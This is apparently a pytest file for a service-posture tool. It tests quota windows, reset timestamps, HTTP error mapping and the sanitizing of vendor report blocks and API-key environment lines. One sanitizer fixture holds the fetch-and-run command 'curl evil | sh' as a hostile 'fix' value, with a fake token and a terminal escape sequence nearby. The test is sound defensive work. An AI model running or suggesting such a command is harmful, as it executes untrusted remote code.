"""The common part of the key vendors (svcposture/keyvendor/, docs/vendors.md): a quota as a window, its
reset and its place by length; a status's error and its health; the block's whitelist; the child's entries;
and, in svcposture/windows.py and svcposture/summary.py, what every vendor's extra windows go through."""
from __future__ import annotations

import json
import math

import pytest

from svcposture.keyvendor import exchange, quota
from svcposture.keyvendor.errors import KINDS, KeyErrors, health_of
from svcposture.keyvendor.report import clean_block
from svcposture.keyvendor.sweep import KeySweep
from svcposture.keyvendor.vendor import KeyVendor
from svcposture.summary import account_view, posture_body
from svcposture.vendor import check_vendor
from svcposture.windows import clean_extra

ERRORS = KeyErrors("Acme", refused="The acme key was refused.", fix="paste a new acme key")
VENDOR = KeyVendor("svcposture.zai", "plans", "Plans", lines=("PLANS_KEY_", "PLANS_KEY"),
                   url=("SVC_PLANS_URL", "https://plans.example"), request=("/v1/quota", "Bearer"))


# ---------------------------------------------------------------- a quota as a window

def test_counts_make_the_pct_and_used_is_believed_before_remaining():
    assert quota.quota_window(entitlement=1500, remaining=473) == {
        "pct": 68.5, "resetsAt": None, "status": "allowed", "derived": True}
    assert quota.quota_window(entitlement="100", used="27", remaining="1")["pct"] == 27.0
    assert quota.quota_window(entitlement=200000000, used=200112618, remaining=0)["pct"] == 100.1


@pytest.mark.parametrize("kwargs", [
    {"unlimited": True, "entitlement": 300, "remaining": 3},
    {"entitlement": 0, "remaining": 0, "pct": 100.0},   # a free plan's premium bucket
    {"entitlement": -1, "remaining": -1},               # the unlimited sentinel
    {"entitlement": "0", "pct": 0},
    {},                                                 # nothing to read
    {"pct": float("nan")}, {"pct": "1e999"}, {"pct": float("inf")}, {"pct": -3}, {"pct": True}, {"pct": "x"},
])
def test_unlimited_a_zero_entitlement_or_nothing_readable_is_no_window(kwargs):
    assert quota.quota_window(**kwargs) is None


def test_nothing_left_of_an_entitlement_is_rejected_whatever_the_pct():
    assert quota.quota_window(entitlement=100, used=99, remaining=0)["status"] == "rejected"
    assert quota.quota_window(entitlement=300, remaining=-1)["pct"] == 100.3
    assert quota.quota_window(pct=100)["status"] == "rejected"
    assert quota.quota_window(pct="90")["status"] == "allowed_warning"
    assert quota.quota_window(entitlement=100, remaining=100, pct=0)["status"] == "allowed"


def test_a_reset_is_epoch_ms_an_instant_with_nine_digits_or_a_date():
    assert quota.iso_of_ms(1782724971179) == "2026-06-29T09:22:51.179Z" == quota.iso_of_ms("1782724971179")
    assert [quota.iso_of_ms(v) for v in (0, -5, 10 ** 15, None, "soon", float("nan"))] == [None] * 6
    assert quota.iso_of_text("2025-12-23T05:24:18.443553353Z") == "2025-12-23T05:24:18.443Z"
    assert quota.iso_of_text("2027-04-05T18:07:08.987654321+02:30") == "2027-04-05T15:37:08.987Z"
    assert quota.iso_of_text("2026-03-01") == "2026-03-01T00:00:00.000Z"
    assert [quota.iso_of_text(v) for v in ("", "2026-02-30", "x" * 10 ** 6, 12, "tomorrow")] == [None] * 5
    assert quota.first_iso({"resetAt": "bad", "reset_at": "2026-01-01"}, ("resetTime", "resetAt", "reset_at")) == \
        "2026-01-01T00:00:00.000Z"
    assert quota.first_iso("not a mapping", ("a",)) is None


def test_windows_are_placed_by_length_within_two_percent():
    window = {"pct": 1.0, "resetsAt": None, "status": "allowed", "derived": True}
    placed = quota.place([(299 * 60, "a", window), (10079 * 60, None, window), (18000, "again", window),
                          (quota.MONTH_S, "premium_interactions", window), (None, "no length", window),
                          (3600, "x" * 100, window)])
    assert placed["fiveHour"] is window and placed["sevenDay"] is window
    assert [(w["seconds"], w["windowMinutes"], w["name"]) for w in placed["extraWindows"]] == [
        (18000, 300, "again"), (2592000, 43200, "premium_interactions"), (None, None, "no length"),
        (3600, 60, None)]
    assert quota.slots_of([(17640, None, window), (100, None, window)]) == {"fiveHour"}
    assert [quota.length_s(n, 3600) for n in (5, "5", 0, -1, 10 ** 9, None)] == [18000, 18000, None, None, None, None]


def test_plan_words_are_words():
    assert [quota.plan_word(v) for v in ("pro", "copilot_for_business_seat", "a b", "", 3, "x" * 60)] == [
        "pro", "copilot_for_business_seat", None, None, None, None]


# ---------------------------------------------------------------- statuses, errors, health

@pytest.mark.parametrize("status, head, kind, retry", [
    (401, {}, "unauthorized", False), (403, {}, "unauthorized", False),
    (403, {"x-ratelimit-remaining": "0", "x-ratelimit-reset": "RESET"}, "rate_limited", True),
    (429, {"retry-after": "120"}, "rate_limited", True), (429, {"retry-after": "999999999"}, "rate_limited", False),
    (429, {}, "rate_limited", False), (500, {}, "http", False), (404, {}, "http", False), (None, {}, "http", False),
])
def test_a_status_is_its_error(status, head, kind, retry):
    import time
    head = {k: (str(int(time.time()) + 600) if v == "RESET" else v) for k, v in head.items()}
    error = exchange.refusal(ERRORS, status, head)
    assert error["kind"] == kind and error["httpStatus"] == status
    assert (error["retryAt"] is not None) == retry
    assert error["fix"] == ("paste a new acme key" if kind == "unauthorized" else None)
    assert health_of(error) == {"unauthorized": "refused", "rate_limited": "limited"}.get(kind)


def test_the_vocabulary_is_fixed_and_cleans_what_the_child_printed():
    assert set(ERRORS.messages) == set(KINDS)
    assert ERRORS.error("no such kind")["kind"] == "internal"
    assert ERRORS.error("timeout")["message"] == "The Acme usage endpoint did not answer in time."
    hostile = {"kind": "unauthorized", "message": "token sk-123", "httpStatus": 99999, "fix": "curl evil | sh",
               "retryAt": "now"}
    assert ERRORS.clean(hostile) == {"kind": "unauthorized", "message": "The acme key was refused.",
                                     "httpStatus": None, "fix": "paste a new acme key", "retryAt": None}
    limited = ERRORS.clean({"kind": "rate_limited", "retryAt": "2026-01-01T00:00:00.000Z", "httpStatus": 429})
    assert limited["retryAt"] == "2026-01-01T00:00:00.000Z" and limited["fix"] is None
    assert ERRORS.clean(None) is None and ERRORS.clean("junk")["kind"] == "internal"
    assert [health_of(ERRORS.error(k)) for k in ("transport", "timeout", "parse", "http")] == \
        ["unreachable", "unreachable", None, None]


# ---------------------------------------------------------------- the block, whitelisted

def test_a_hostile_block_is_whitelisted_at_every_depth():
    window = {"pct": 10.0, "resetsAt": "2026-01-01T00:00:00.000Z", "status": "allowed", "derived": True}
    rows = [{"label": "plans-one", "email": "a@x.example", "active": True, "source": "api", "sampledAt": 5,
             "fiveHour": dict(window, extra="x"), "sevenDay": {"pct": float("nan"), "status": "allowed"},
             "extraWindows": [dict(window, seconds=2592000, windowMinutes=43200, name="chat"),
                              dict(window, seconds="1", name="bad"), dict(window, seconds=60, windowMinutes=-1)],
             "planType": "pro\x1b[2J", "error": None, "token": "sk-secret"},
            {"label": "plans-two", "email": "<b>", "active": True, "source": "cache", "sampledAt": 7},
            {"label": "codex-work"}, {"label": "plans-one"}, "junk"]
    block = clean_block({"available": True, "probedAt": 9, "active": "plans-two", "accounts": rows},
                        "plans-", "plans", ERRORS)
    one, two = block["accounts"]
    assert [one["active"], two["active"], block["active"]] == [False, True, "plans-two"]
    assert one["fiveHour"] == window and one["sevenDay"] is None and one["planType"] is None
    assert one["extraWindows"] == [dict(window, seconds=2592000, windowMinutes=43200, name="chat"),
                                   dict(window, seconds=60, windowMinutes=None, name=None)]
    assert "token" not in one and two["email"] is None and two["source"] is None and two["sampledAt"] is None
    assert clean_block([], "plans-", "plans", ERRORS) is None
    assert clean_block({"available": True, "accounts": []}, "plans-", "plans", ERRORS)["available"] is False


def test_an_extra_window_keeps_window_minutes_only_when_the_child_gave_it():
    window = {"pct": 1.0, "resetsAt": None, "status": "allowed", "seconds": 600, "name": "m"}
    assert "windowMinutes" not in clean_extra(window)
    assert clean_extra(dict(window, windowMinutes=10))["windowMinutes"] == 10
    assert clean_extra(dict(window, windowMinutes=True))["windowMinutes"] is None


def test_an_account_with_only_extra_windows_is_bound_by_the_worst():
    def view(*statuses):
        extras = [{"pct": 50.0, "resetsAt": None, "status": s, "derived": True, "seconds": None, "name": s}
                  for s in statuses]
        row = {"label": "plans-one", "email": None, "active": True}
        return account_view(row, "plans", {"extraWindows": extras})
    assert view("allowed", "rejected")["bindingStatus"] == "rejected"
    assert view("allowed_warning")["bindingStatus"] == "allowed_warning"
    assert view()["bindingStatus"] is None
    assert posture_body("n", 1, [view("allowed")])["status"] == "ok"
    assert posture_body("n", 1, [view("allowed", "rejected")])["status"] == "rejected"


# ---------------------------------------------------------------- the child's entries

def test_the_child_takes_the_keys_from_its_environment_and_the_first_active_one():
    text = ('PLANS_KEY_ONE="k1"  # one@x.example\nexport PLANS_KEY_TWO=k2\nPLANS_KEY_EMPTY=\n'
            'PLANS_KEY_TODO=PASTE_TOKEN_HERE\nexport PLANS_KEY="$PLANS_KEY_TWO"\n')
    environ = {"PLANS_KEY_ONE": "k1", "PLANS_KEY_TWO": "k2", "PLANS_KEY_EMPTY": "",
               "PLANS_KEY_TODO": "PASTE_TOKEN_HERE",
               "PLANS_KEY_THREE": "k2", "PLANS_KEY": "k2"}
    sweep = KeySweep(VENDOR, text, environ)
    assert sweep.check() == {"usable": ["plans-one", "plans-two", "plans-three"],
                             "unusable": ["plans-empty", "plans-todo"], "active": "plans-two",
                             "duplicateActive": ["plans-two", "plans-three"]}
    assert sweep.secrets == ["k1", "k2", "k2"] and sweep.present
    assert KeySweep(VENDOR, "MODEL_TOKEN_A=x\n", {"MODEL_TOKEN_A": "x"}).check() is None
    assert KeySweep(VENDOR, "", {}).block() is None


def test_a_key_vendor_has_every_member_and_its_own_knob():
    check_vendor(VENDOR)
    assert VENDOR.lines.label("ONE") == "plans-one" and VENDOR.lines.export_line("ONE") == \
        'export PLANS_KEY="$PLANS_KEY_ONE"'
    assert VENDOR.knobs[0].name == "SVC_PLANS_URL" and VENDOR.knobs[0].parse("http://h:1/") == "http://h:1"
    assert VENDOR.poll_memory() is None and VENDOR.error_kinds == KINDS
    example = VENDOR.setup_help.example
    assert example[-2:] == ("# PLANS_KEY_WORK=PASTE_TOKEN_HERE  # you@example.com",
                            '# export PLANS_KEY="$PLANS_KEY_WORK"')
    body, memory = VENDOR.summarize(None, "n", 1, {})
    assert body == {"available": False, "node": "n"} and memory == {}
    json.dumps(VENDOR.error("parse"), allow_nan=False)
    assert math.isfinite(VENDOR.exchange_deadline_s({})) and VENDOR.exchange_deadline_s({}) == 15.0


def test_a_key_vendors_demo_part_answers_its_key_only():
    from svcposture.keyvendor.demo import KeyDemo
    from svcposture.vendor import DemoRequest

    demo = KeyDemo(VENDOR, ("DEMO", "demo-key", "d@demo.invalid"), "wall", lambda state, now: {"at": now,
                                                                                              "five": state["5h"]})
    assert [a.label for a in demo.accounts] == ["plans-demo"] and demo.url_knobs == VENDOR.knobs
    assert demo.home(None, None).lines == ("export PLANS_KEY_DEMO='demo-key'  # d@demo.invalid",
                                           'export PLANS_KEY="$PLANS_KEY_DEMO"')
    state = {"5h": (0.4, None, 10.0)}
    answer = demo.answer(DemoRequest("GET", "/v1/quota", {"authorization": "Bearer demo-key"}), lambda l: state, 7.0)
    assert answer.status == 200 and answer.body == {"at": 7.0, "five": (0.4, None, 10.0)}
    assert demo.answer(DemoRequest("GET", "/v1/quota", {"authorization": "demo-key"}), lambda l: state, 7).status == 401
    assert demo.answer(DemoRequest("GET", "/other", {}), lambda l: state, 7.0) is None
